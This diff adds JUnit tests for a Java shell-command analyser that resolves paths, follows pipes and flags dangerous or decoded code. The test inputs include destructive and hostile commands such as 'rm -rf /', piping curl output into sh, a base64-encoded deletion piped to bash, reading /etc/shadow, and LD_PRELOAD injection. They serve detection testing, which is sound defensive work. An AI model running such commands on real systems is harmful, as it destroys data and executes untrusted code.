@@ -1,0 +1,197 @@
+package dev.lighthouse.shell;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.lighthouse.shell.syntax.Span;
+import java.util.List;
+import java.util.Map;
+import java.util.Optional;
+import org.junit.jupiter.api.Test;
+
+/** What the effective commands carry beyond program and arguments: paths, spans, inputs, code, limits. */
+class ShellAnalyserTest {
+    private static final ShellContext CTX = Table.CONTEXT;
+
+    private static Analysis analyse(String line) {
+        return ShellAnalyser.analyse(line, CTX);
+    }
+
+    private static Command first(String line, String program) {
+        return analyse(line).commandsNamed(program).getFirst();
+    }
+
+    private static List<Optional<String>> paths(Command c) {
+        return c.args().stream().map(Word::path).toList();
+    }
+
+    @Test
+    void operands_resolveAgainstCwdAndHome_flagsDoNot() {
+        Command rm = first("rm -rf ./build ../x ~/src /etc/../tmp -- -weird", "rm");
+        assertThat(paths(rm))
+                .containsExactly(
+                        Optional.empty(),
+                        Optional.of("/work/proj/build"),
+                        Optional.of("/work/x"),
+                        Optional.of("/home/u/src"),
+                        Optional.of("/tmp"),
+                        Optional.empty(),
+                        Optional.of("/work/proj/-weird"));
+    }
+
+    @Test
+    void paths_followCd_andUnknownCdLeavesRelativePathsUnresolved() {
+        assertThat(paths(first("cd /var && rm -rf log", "rm")).get(1)).contains("/var/log");
+        assertThat(paths(first("cd \"$X\" && rm -rf log", "rm")).get(1)).isEmpty();
+        assertThat(paths(first("cd \"$X\" && rm -rf /abs", "rm")).get(1)).contains("/abs");
+    }
+
+    @Test
+    void keyValueAndLongOptionValues_thatLookLikePaths_areResolved() {
+        assertThat(paths(first("dd if=/dev/zero of=~/disk.img", "dd")))
+                .containsExactly(Optional.of("/dev/zero"), Optional.of("/home/u/disk.img"));
+        assertThat(paths(first("curl --output=./x http://h", "curl")))
+                .containsExactly(Optional.of("/work/proj/x"), Optional.empty());
+    }
+
+    @Test
+    void dynamicWords_haveNoPath_andKeepTheExpansionAsWritten() {
+        Word w = first("rm -rf \"$DIR\"/", "rm").args().get(1);
+        assertThat(w.dynamic()).isTrue();
+        assertThat(w.value()).isEqualTo("$DIR/");
+        assertThat(w.path()).isEmpty();
+    }
+
+    @Test
+    void callerEnvironment_isKnown() {
+        ShellContext ctx = new ShellContext("/w", "/home/x", Map.of("TARGET", "/srv"), Limits.defaults());
+        Command rm =
+                ShellAnalyser.analyse("rm -rf $TARGET/data", ctx).commands().getFirst();
+        assertThat(rm.args().get(1).path()).contains("/srv/data");
+    }
+
+    @Test
+    void redirectTargets_areResolved_andDescriptorsAreNot() {
+        Command echo = first("echo x > ~/.bashrc 2>&1", "echo");
+        assertThat(echo.redirects()).hasSize(2);
+        assertThat(echo.redirects().getFirst().target().path()).contains("/home/u/.bashrc");
+        assertThat(echo.redirects().getFirst().writesFile()).isTrue();
+        assertThat(echo.redirects().get(1).target().path()).isEmpty();
+        assertThat(echo.redirects().get(1).writesFile()).isFalse();
+    }
+
+    @Test
+    void redirectsOfCompoundCommands_applyToTheCommandsInside() {
+        Analysis a = analyse("{ echo a; echo b; } > /tmp/out");
+        assertThat(a.commands())
+                .allSatisfy(c ->
+                        assertThat(c.redirects().getFirst().target().path()).contains("/tmp/out"));
+    }
+
+    @Test
+    void spans_pointAtTheOriginalText_nestedCodeAtItsCarrierWord() {
+        String line = "ls; sudo bash -c 'rm -rf /'";
+        Analysis a = ShellAnalyser.analyse(line, CTX);
+        assertThat(a.commandsNamed("ls").getFirst().span().of(line)).isEqualTo("ls");
+        assertThat(a.commandsNamed("bash").getFirst().span().of(line)).isEqualTo("sudo bash -c 'rm -rf /'");
+        Command rm = a.commandsNamed("rm").getFirst();
+        assertThat(rm.span().of(line)).isEqualTo("'rm -rf /'");
+        assertThat(rm.args().getFirst().span()).isEqualTo(new Span(17, 27));
+    }
+
+    @Test
+    void stdin_pipeHereStringFileOrInherited() {
+        Command grep = first("ls | grep x", "grep");
+        assertThat(grep.stdin())
+                .isInstanceOfSatisfying(
+                        Input.Pipe.class,
+                        p -> assertThat(p.upstream())
+                                .extracting(Command::program)
+                                .containsExactly("ls"));
+        assertThat(first("cat <<< hi", "cat").stdin())
+                .isInstanceOfSatisfying(
+                        Input.Text.class, t -> assertThat(t.text().value()).isEqualTo("hi\n"));
+        assertThat(first("cat < /etc/shadow", "cat").stdin())
+                .isInstanceOfSatisfying(
+                        Input.File.class, f -> assertThat(f.path().path()).contains("/etc/shadow"));
+        assertThat(first("cat", "cat").stdin()).isInstanceOf(Input.Inherited.class);
+    }
+
+    @Test
+    void pipeIntoShell_namesItsFeeders() {
+        Command sh = first("curl -s http://x | sh", "sh");
+        InterpreterCode code = sh.code().orElseThrow();
+        assertThat(code.source()).isEqualTo(CodeSource.PIPE);
+        assertThat(code.known()).isFalse();
+        assertThat(code.feeders()).extracting(Command::program).containsExactly("curl");
+        assertThat(code.findings()).extracting(Finding::kind).containsExactly(FindingKind.UNKNOWN_CODE);
+    }
+
+    @Test
+    void decodedPayload_isAnalysedAndMarked() {
+        Analysis a = analyse("echo cm0gLXJmIC8= | base64 -d | bash");
+        Command rm = a.commandsNamed("rm").getFirst();
+        assertThat(rm.via()).containsExactly("base64 -d | bash");
+        assertThat(rm.has(Trait.DECODED_PAYLOAD)).isTrue();
+        assertThat(a.commandsNamed("bash").getFirst().code().orElseThrow().text())
+                .isEqualTo("rm -rf /");
+    }
+
+    @Test
+    void interpreterOneLiner_exposesTextAndFindings() {
+        InterpreterCode code = first("python3 -c 'import shutil; shutil.rmtree(\"/\")'", "python3")
+                .code()
+                .orElseThrow();
+        assertThat(code.language()).isEqualTo("python");
+        assertThat(code.text()).isEqualTo("import shutil; shutil.rmtree(\"/\")");
+        assertThat(code.findings()).containsExactly(new Finding(FindingKind.DELETES_FILES, "shutil.rmtree"));
+    }
+
+    @Test
+    void dataIsNotExecution() {
+        assertThat(analyse("git commit -m \"fix rm -rf / bug\"").commands())
+                .extracting(Command::program)
+                .containsExactly("git");
+        assertThat(analyse("grep 'rm -rf' x").commands())
+                .extracting(Command::program)
+                .containsExactly("grep");
+        assertThat(analyse("echo \"sudo rm\" > notes").commands())
+                .extracting(Command::program)
+                .containsExactly("echo");
+    }
+
+    @Test
+    void programNormalisation_keepsWhatWasWritten() {
+        Command rm = first("sudo /bin/r\\m -rf /", "rm");
+        assertThat(rm.programAsWritten()).isEqualTo("/bin/rm");
+        assertThat(rm.has(Trait.PRIVILEGED)).isTrue();
+        assertThat(rm.via()).containsExactly("sudo");
+    }
+
+    @Test
+    void wrapperAssignments_reachTheWrappedCommand() {
+        Command ls = first("env -i LD_PRELOAD=/tmp/x.so ls", "ls");
+        assertThat(ls.assignments()).extracting(Assignment::name).containsExactly("LD_PRELOAD");
+        assertThat(first("FOO=1 ls", "ls").assignments().getFirst().value().value())
+                .isEqualTo("1");
+    }
+
+    @Test
+    void inputLimit_cutsAndFlags_nestingLimit_flags() {
+        Analysis cut = ShellAnalyser.analyse("ls; rm -rf /", CTX.withLimits(new Limits(3, 8)));
+        assertThat(cut.incomplete()).isTrue();
+        assertThat(cut.commands()).extracting(Command::program).containsExactly("ls");
+        assertThat(cut.problems().getFirst().message()).contains("cut to the limit of 3");
+
+        String nested = "bash -c \"bash -c 'bash -c ls'\"";
+        Analysis shallow = ShellAnalyser.analyse(nested, CTX.withLimits(new Limits(1_000, 2)));
+        assertThat(shallow.incomplete()).isTrue();
+        assertThat(shallow.commandsNamed("ls")).isEmpty();
+    }
+
+    @Test
+    void nullInput_isAnEmptyAnalysis() {
+        Analysis a = ShellAnalyser.analyse(null, CTX);
+        assertThat(a.commands()).isEmpty();
+        assertThat(a.incomplete()).isFalse();
+    }
+}
